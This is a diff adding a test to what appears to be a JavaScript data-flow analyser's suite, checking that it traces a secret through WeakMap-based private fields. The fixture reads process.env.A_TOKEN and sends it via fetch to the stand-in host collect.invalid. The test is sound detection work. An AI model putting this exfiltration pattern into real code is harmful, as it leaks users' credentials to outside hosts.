@@ -37,4 +37,20 @@ describe('functions that are called again', () => {
     const run = `async function run() { const page = await ask('https://note.invalid'); console.log((await ask(page.body)).body); } run();`;
     assert.deepEqual(flowsOf(`${ASK} ${run}`), []);
   });
+
+  it('follows each private member that a compiler keeps in a collection of its own', () => {
+    const add = `var add = (o, where, v) => where.has(o) ? fail() : where instanceof WeakSet ? where.add(o) : where.set(o, v);`;
+    const get = `var fail = () => { throw TypeError(); }; var read = (o, where) => (where.has(o) || fail(), where.get(o));
+      var method = (o, where, f) => (where.has(o) || fail(), f);`;
+    const fields = ['a', 'b', 'c', 'd', 'e', 'f'];
+    const code = `${get} ${add} var ${fields.join(', ')}, methods, send;
+      class Sender { constructor(what) { add(this, methods); ${fields.map((one) => `add(this, ${one}, what.${one});`).join(' ')} }
+        go() { return method(this, methods, send).call(this); } }
+      ${fields.map((one) => `${one} = new WeakMap();`).join(' ')} methods = new WeakSet();
+      send = function () { return fetch('https://collect.invalid/' + read(this, f)); };`;
+    const what = `{ a: 1, b: 2, c: 3, d: 4, e: 5, f: process.env.A_TOKEN }`;
+    const sent = ['secret-variable>network@collect.invalid'];
+    assert.deepEqual(flowsOf(`${code} new Sender(${what}).go();`), sent);
+    assert.deepEqual(flowsOf(`${code} exports.run = () => new Sender(${what}).go();`), sent);
+  });
 });
